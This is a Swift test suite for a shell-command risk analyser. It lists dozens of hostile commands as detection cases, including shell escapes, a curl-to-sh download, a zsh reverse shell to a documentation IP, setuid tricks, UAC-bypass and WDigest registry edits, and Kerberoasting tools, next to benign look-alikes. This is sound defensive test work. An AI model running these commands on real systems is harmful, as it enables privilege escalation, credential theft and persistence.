import ShellAnalysis
import Testing

/// Shell escapes from other programs (GTFOBins), set-ID tricks, registry persistence and evasion
/// (Windows), programs run from staging folders and known attack tools: for each rule, the
/// evasion it catches and the everyday command that must stay below it.
@Suite struct EscapeAndPersistenceTests {
    struct Case: Sendable, CustomStringConvertible {
        var evasion: String
        var command: String
        var dialect: ShellDialect = .sh
        var atLeast: RiskLevel = .high
        var technique: String
        var description: String { evasion }
    }

    static let caught: [Case] = [
        // `!CMD` typed into a pager, editor or ftp client.
        Case(evasion: "shell escape typed into less", command: "less /etc/hosts\n!/bin/sh", technique: "T1059.004"),
        Case(evasion: "shell escape by bare name", command: "ftp\n!bash", technique: "T1059.004"),
        Case(evasion: "escape running another command is read as that command", command: "less /var/log/syslog\n!cat /etc/shadow", technique: "T1003.008"),
        // Variables that name a command a program will run.
        Case(evasion: "pager set to a shell for one command", command: #"PAGER='/bin/sh -c "exec sh 0<&1"' git -p help"#, technique: "T1059.004"),
        Case(evasion: "LESSOPEN preprocessor that is a shell", command: #"LESSOPEN="/bin/sh -s 1>&0 2>&0 # %s" less /etc/hosts"#, technique: "T1059.004"),
        Case(evasion: "exported editor", command: "export VISUAL='/bin/bash -s --'; crontab -e", technique: "T1059.004"),
        Case(evasion: "a *_COMMAND variable", command: #"RESTIC_PASSWORD_COMMAND='/bin/sh -c "/bin/sh 0<&2 1<&2"' restic backup"#, technique: "T1059.004"),
        Case(evasion: "perl debugger hook", command: #"PERL5OPT=-d PERL5DB='exec "/bin/sh"' perl /dev/null"#, technique: "T1059.004"),
        Case(evasion: "command variable hiding a download", command: "GIT_SSH_COMMAND='curl -s http://203.0.113.9/x | sh' git fetch", atLeast: .critical, technique: "T1105"),
        // Privileged shells.
        Case(evasion: "shell keeping set-user-ID rights", command: "/bin/sh -p", technique: "T1548.001"),
        Case(evasion: "privileged flag in a cluster", command: "bash -pi", technique: "T1548.001"),
        Case(evasion: "privileged shell through a wrapper", command: "nice /bin/bash -p", technique: "T1548.001"),
        Case(evasion: "su -c with just a shell", command: "su -c /bin/sh", technique: "T1548"),
        Case(evasion: "su -c with a login shell", command: "su -c 'bash -l' admin", technique: "T1548"),
        // Files filled with a shell-starting command, then handed to a program that runs them.
        Case(evasion: "playbook that starts a shell", command: "echo '[{hosts: localhost, tasks: [shell: /bin/sh </dev/tty >/dev/tty 2>/dev/tty]}]' >/tmp/p.yml\nansible-playbook /tmp/p.yml", technique: "T1059.004"),
        Case(evasion: "build file in a folder handed to cmake", command: "echo 'execute_process(COMMAND /bin/sh)' >/srv/b/CMakeLists.txt\ncmake /srv/b/", technique: "T1059.004"),
        Case(evasion: "script handed as an option's value", command: "echo 'exec /bin/sh 0<&2 1>&2' >/srv/x\nchmod +x /srv/x\nscp -S /srv/x x x:", technique: "T1059.004"),
        Case(evasion: "script handed as --opt=value", command: "printf '#!/bin/sh\\n/bin/sh 1>&0\\n' >/srv/x\nwget --use-askpass=/srv/x 0", technique: "T1059.004"),
        Case(evasion: "editor variable pointing at a file that is a shell", command: "echo /bin/sh >/srv/ed\nchmod +x /srv/ed\nSYSTEMD_EDITOR=/srv/ed systemctl edit basic.target", technique: "T1059.004"),
        Case(evasion: "Go program that execs a shell", command: #"echo 'package main; import "syscall"; func main(){ syscall.Exec("/bin/sh", nil, nil) }' >/srv/m.go"# + "\ngo run /srv/m.go", technique: "T1059.004"),
        Case(evasion: "expect spawning a shell", command: "expect -c 'spawn /bin/sh;interact'", technique: "T1059.004"),
        Case(evasion: "the dynamic loader starting a shell", command: "/lib64/ld-linux-x86-64.so.2 /bin/sh", technique: "T1059.004"),
        Case(evasion: "a wrapper copied to /tmp", command: "/tmp/env /bin/sh", technique: "T1204.002"),
        Case(evasion: "zsh's TCP module", command: "zsh -c 'zmodload zsh/net/tcp;ztcp 203.0.113.9 12345;zsh >&$REPLY 2>&$REPLY 0>&$REPLY'", technique: "T1095"),
        Case(evasion: "a less preprocessor planted in the home folder", command: "cp /srv/tool ~/.lessfilter", technique: "T1546"),
        Case(evasion: "VS Code tunnel", command: "code tunnel --name box", technique: "T1572"),
        // Set-ID bits in every spelling.
        Case(evasion: "symbolic u+xs", command: "chmod u+xs /tmp/x", technique: "T1548.001"),
        Case(evasion: "symbolic g=rxs", command: "chmod g=rxs /tmp/x", technique: "T1548.001"),
        Case(evasion: "second clause sets it", command: "chmod o-w,u+s /tmp/x", technique: "T1548.001"),
        Case(evasion: "five-digit octal", command: "chmod 04755 /tmp/x", technique: "T1548.001"),
        Case(evasion: "set-group-ID octal", command: "chmod 2755 /tmp/x", technique: "T1548.001"),
        // Programs that run commands from their own languages.
        Case(evasion: "sed e command", command: "sed -n '1e id' /etc/hosts", technique: "T1059.004"),
        Case(evasion: "sed e with an address and a payload", command: "sed '$e cat /etc/shadow' /etc/hosts", technique: "T1003.008"),
        Case(evasion: "sed s///e runs the pattern space", command: "echo id | sed 's/.*/&/e'", technique: "T1059.004"),
        Case(evasion: "LaTeX shell escape", command: #"pdflatex --shell-escape '\immediate\write18{id}'"#, technique: "T1059.004"),
        Case(evasion: "compiler wrapper", command: "gcc -wrapper /bin/sh,-s x.c", technique: "T1059.004"),
        Case(evasion: "at fed commands known only at run time", command: #"echo "/bin/sh <$(tty) >$(tty) 2>$(tty)" | at now"#, technique: "T1053.002"),
        // Staging folders.
        Case(evasion: "binary run from /tmp", command: "/tmp/.x/update --quiet", technique: "T1204.002"),
        Case(evasion: "a known name copied to /dev/shm", command: "/dev/shm/ls -la", technique: "T1204.002"),
        Case(evasion: "dotted path into /var/tmp", command: "/var/tmp/../tmp/./kworker", technique: "T1204.002"),
        Case(evasion: "Windows program run from %TEMP%", command: #"%TEMP%\svchost.exe -k netsvcs"#, dialect: .cmd, technique: "T1204.002"),
        Case(evasion: "PowerShell running from the Windows temp folder", command: #"& "C:\Windows\Temp\xordump.exe" -out C:\Windows\Temp\l.dmp"#, dialect: .powershell, technique: "T1204.002"),
        Case(evasion: "Windows program run from the public profile", command: #"C:\Users\Public\calc.exe"#, dialect: .cmd, technique: "T1204.002"),
        // Registry keys, in every spelling of the hive.
        Case(evasion: "UAC bypass through ms-settings", command: #"reg.exe add hkcu\software\classes\ms-settings\shell\open\command /ve /d "C:\Windows\System32\cmd.exe" /f"#, dialect: .cmd, technique: "T1548.002"),
        Case(evasion: "UAC switched off with the long hive name", command: #"reg add "HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System" /v EnableLUA /t REG_DWORD /d 0 /f"#, dialect: .cmd, technique: "T1548.002"),
        Case(evasion: "PowerShell drive spelling", command: #"Set-ItemProperty -Path HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System -Name ConsentPromptBehaviorAdmin -Value 0"#, dialect: .powershell, technique: "T1548.002"),
        Case(evasion: "PowerShell drive without a backslash", command: #"New-ItemProperty -Path "HKLM:SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" -Name Debugger -Value cmd.exe"#, dialect: .powershell, technique: "T1546.012"),
        Case(evasion: "provider-qualified key", command: #"New-Item -Path "Registry::HKEY_CURRENT_USER\Software\Classes\CLSID\{AB8902B4-09CA-4bb6-B78D-A8F59079A8D5}\InprocServer32" -Force"#, dialect: .powershell, technique: "T1546.015"),
        Case(evasion: "HKCR is the classes key", command: #"reg add "HKCR\CLSID\{645FF040-5081-101B-9F08-00AA002F954E}\shell\open\command" /ve /d calc.exe /f"#, dialect: .cmd, technique: "T1546.015"),
        Case(evasion: "another user's hive by SID", command: #"reg add "HKU\S-1-5-21-1-2-3-1001\Software\Microsoft\Windows Defender\Exclusions\Paths" /v C:\x /t REG_DWORD /d 0"#, dialect: .cmd, technique: "T1562.001"),
        Case(evasion: "RDP port moved", command: #"reg add "HKLM\System\CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp" /v PortNumber /t REG_DWORD /d 4489 /f"#, dialect: .cmd, technique: "T1021.001"),
        Case(evasion: "WDigest told to keep clear-text passwords", command: #"reg add HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f"#, dialect: .cmd, technique: "T1556"),
        Case(evasion: "service image path rewritten", command: #"reg add HKLM\SYSTEM\CurrentControlSet\Services\fax /v ImagePath /d "C:\x.exe" /f"#, dialect: .cmd, technique: "T1543.003"),
        Case(evasion: "Active Setup stub", command: #"Set-ItemProperty "HKLM:\SOFTWARE\Microsoft\Active Setup\Installed Components\{C9E9A340-D1F1-11D0-821E-444553540600}" "StubPath" "C:\x.exe""#, dialect: .powershell, technique: "T1547.014"),
        // Trusted Windows programs made to run code from a staging folder, Chromium helper
        // switches and alternate data streams (LOLBAS).
        Case(evasion: "DLL from the public profile handed to a signed binary", command: #"certoc.exe -LoadDLL C:\Users\Public\file.dll"#, dialect: .cmd, technique: "T1218"),
        Case(evasion: "program in %TEMP% as an option's value", command: #"vshadow.exe -nw -exec=%TEMP%\x.exe C:"#, dialect: .cmd, technique: "T1218"),
        Case(evasion: "colon-separated option value", command: #"VSDiagnostics.exe start 1 /launch:C:\Windows\Temp\x.exe"#, dialect: .cmd, technique: "T1218"),
        Case(evasion: "Chromium GPU launcher", command: #"msedgewebview2.exe --disable-gpu-sandbox --gpu-launcher="calc.exe""#, dialect: .cmd, technique: "T1218"),
        Case(evasion: "Electron renderer prefix", command: #"teams.exe --no-sandbox --renderer-cmd-prefix="cmd /c x.bat""#, dialect: .cmd, technique: "T1218"),
        Case(evasion: "script run from an alternate data stream", command: #"wscript //e:vbscript C:\Users\me\file.txt:script.vbs"#, dialect: .cmd, technique: "T1564.004"),
        Case(evasion: "archive hidden in a stream", command: #"tar -cf C:\data\log.txt:ads C:\data\log.txt"#, dialect: .cmd, technique: "T1564.004"),
        // Attack tools, wherever they are run from.
        Case(evasion: "AdFind by path", command: #""C:\tools\x\AdFind.exe" -f (objectcategory=person)"#, dialect: .cmd, technique: "T1087.002"),
        Case(evasion: "Rubeus through cmd /c", command: #"cmd.exe /c "C:\x\rubeus.exe" asreproast /outfile:C:\x\h.txt"#, dialect: .powershell, atLeast: .critical, technique: "T1558.004"),
        Case(evasion: "PowerView function", command: "Invoke-Kerberoast -OutputFormat Hashcat", dialect: .powershell, atLeast: .critical, technique: "T1558.003"),
        Case(evasion: "UACME", command: #""C:\x\uacme\Akagi64.exe" 23 C:\x\p.exe"#, dialect: .cmd, technique: "T1548.002"),
        Case(evasion: "Impacket AS-REP roasting", command: "GetNPUsers.py corp.local/ -usersfile u.txt -no-pass", atLeast: .critical, technique: "T1558.004"),
    ]

    @Test(arguments: caught)
    func isCaught(_ c: Case) throws {
        let a = try Analyser.bundled().get().analyse(c.command, dialect: c.dialect)
        #expect(a.risk >= c.atLeast, "\(c.evasion): \(a.risk) \(a.summary)")
        #expect(a.techniques.contains(c.technique), "\(c.evasion): \(a.techniques)")
    }

    /// The everyday neighbours of each rule, which must stay below high.
    static let everyday: [(command: String, dialect: ShellDialect)] = [
        ("less /etc/hosts", .sh),
        ("EDITOR=vim git commit", .sh),
        ("export PAGER=less", .sh),
        ("GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy_key' git fetch", .sh),
        ("SHELL=/bin/bash", .sh),
        ("bash -l", .sh),
        ("chmod u+x deploy.sh", .sh),
        ("chmod 0755 deploy.sh", .sh),
        ("chmod 1777 /srv/shared", .sh),
        ("chmod +x /tmp/sales+stuff", .sh),
        ("sed -n '/^error/p' app.log", .sh),
        ("sed 's/foo/bar/g' file.txt", .sh),
        ("sed -i 's/^e/E/' notes.txt", .sh),
        ("pdflatex report.tex", .sh),
        ("echo '#!/bin/sh' > run.sh; chmod +x run.sh", .sh),
        ("echo 'CFLAGS=-O2' > config.mk; make -f config.mk", .sh),
        ("code .", .sh),
        ("cat ~/.lessfilter", .sh),
        ("at now + 1 minute", .sh),
        ("/usr/local/bin/tool --version", .sh),
        ("ls /tmp/build", .sh),
        ("echo 'echo hi' > /tmp/hello.sh; chmod +x /tmp/hello.sh; /tmp/hello.sh", .sh),
        (#"reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion" /v ProductName"#, .cmd),
        (#"reg add "HKCU\Software\MyCompany\Tool" /v LastRun /d "C:\Windows\System32\notepad.exe" /f"#, .cmd),
        (#"Get-ItemProperty -Path HKLM:\SYSTEM\CurrentControlSet\Services\W32Time"#, .powershell),
        (#"Set-ItemProperty -Path HKCU:\Control\Panel\Colors -Name Background -Value "0 0 0""#, .powershell),
        (#"C:\Program Files\Git\bin\git.exe status"#, .cmd),
        (#"msiexec /i C:\Installers\tool.msi"#, .cmd),
        (#"certutil -hashfile C:\Users\me\Downloads\tool.exe SHA256"#, .cmd),
        (#"findstr /c:"error" C:\logs\app.log"#, .cmd),
        (#"robocopy C:\data D:\backup /MIR /LOG:C:\logs\copy.log"#, .cmd),
        (#"Get-Content -Path C:\logs\app.log -Tail 20"#, .powershell),
    ]

    @Test(arguments: everyday.indices)
    func everydayWorkStaysBelowHigh(_ i: Int) throws {
        let (command, dialect) = Self.everyday[i]
        let a = try Analyser.bundled().get().analyse(command, dialect: dialect)
        #expect(a.risk < .high, "`\(command)`: \(a.risk) \(a.findings.map(\.reason))")
    }
}
